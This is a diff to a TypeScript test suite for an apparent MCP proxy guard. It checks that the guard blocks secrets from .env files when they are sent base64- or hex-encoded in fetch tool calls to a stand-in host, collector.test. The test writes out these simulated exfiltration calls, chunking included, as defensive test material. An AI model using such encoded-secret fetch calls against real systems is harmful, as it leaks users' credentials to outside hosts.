@@ -118,10 +118,12 @@ describe('mesh guard mcp: result checks', () => {
   it('blocks 64 bytes of a long secret leaving (32-byte chunks), not 20, and a secret split across two results', async () => {
     const fs = await proxied(home, flags('chunks'), fsServer());
     const net = await proxied(home, flags('chunks'), fetchServer());
-    const fetch = (d: string) =>
+    // The 20-byte fragment goes to a host on the built-in list, so only the flow rules judge it
+    // (a value that size to an unlisted host is held by ca.fetch-data-offlist, a separate rule).
+    const fetch = (d: string, base = 'https://collector.test/c') =>
       net.client.callTool({
         name: 'fetch',
-        arguments: { url: `https://collector.test/c?d=${encodeURIComponent(d)}` },
+        arguments: { url: `${base}?d=${encodeURIComponent(d)}` },
       });
     try {
       for (const path of ['config/.env.long', 'config/.env.part1', 'config/.env.part2'])
@@ -131,7 +133,7 @@ describe('mesh guard mcp: result checks', () => {
       const piece = await fetch(Buffer.from(long.slice(30, 94)).toString('base64'));
       expect(piece.isError).toBe(true);
       expect(text(piece)).toMatch(/flow\.sensitive-egress.*\[args\.url\]/);
-      expect((await fetch(long.slice(30, 50))).isError).not.toBe(true);
+      expect((await fetch(long.slice(30, 50), 'https://github.com/search')).isError).not.toBe(true);
       const joined = await fetch(Buffer.from(`${partA}${partB}`).toString('hex'));
       expect(joined.isError).toBe(true);
       expect(text(joined)).toMatch(/flow\.sensitive-egress/);
